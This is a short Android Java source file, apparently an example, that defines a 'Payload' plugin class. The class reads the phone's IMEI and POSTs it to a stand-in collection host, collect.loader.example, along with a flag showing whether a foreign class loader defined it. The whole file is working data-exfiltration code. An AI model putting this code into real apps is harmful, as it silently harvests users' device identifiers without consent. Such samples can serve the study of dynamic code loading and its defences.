package org.loader.example;

import android.content.Context;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** What a plugin would be: sends the IMEI, and whether another loader than the app's defined it. */
public class Payload {
    private Payload() {}

    @SuppressWarnings("deprecation")
    public static void run(Context context, boolean anew) throws IOException {
        TelephonyManager phone =
                (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        URL url = new URL("http://collect.loader.example/plugin?anew=" + anew);
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        try (OutputStream body = connection.getOutputStream()) {
            body.write(("imei=" + phone.getDeviceId()).getBytes());
        }
        connection.getResponseCode();
        connection.disconnect();
    }
}
